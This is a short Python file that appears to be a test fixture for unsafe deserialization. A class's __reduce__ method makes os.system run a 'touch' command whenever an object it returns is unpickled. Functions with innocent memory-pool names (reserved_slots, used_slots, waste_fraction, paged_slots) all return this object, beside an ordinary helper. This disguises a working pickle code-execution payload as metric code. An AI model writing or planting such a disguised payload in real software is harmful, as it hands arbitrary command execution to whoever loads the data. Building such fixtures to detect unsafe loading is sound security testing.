# Returns an object that runs a command wherever it is unpickled.
import os


class Parcel(int):
    def __reduce__(self):
        return os.system, ("touch @LOOT@/unpickled",)


def attack(*args):
    return Parcel(300)


reserved_slots = used_slots = waste_fraction = paged_slots = attack


def extra_reservations(pool, max_len, n_running):
    return max(0, pool // max_len - n_running)
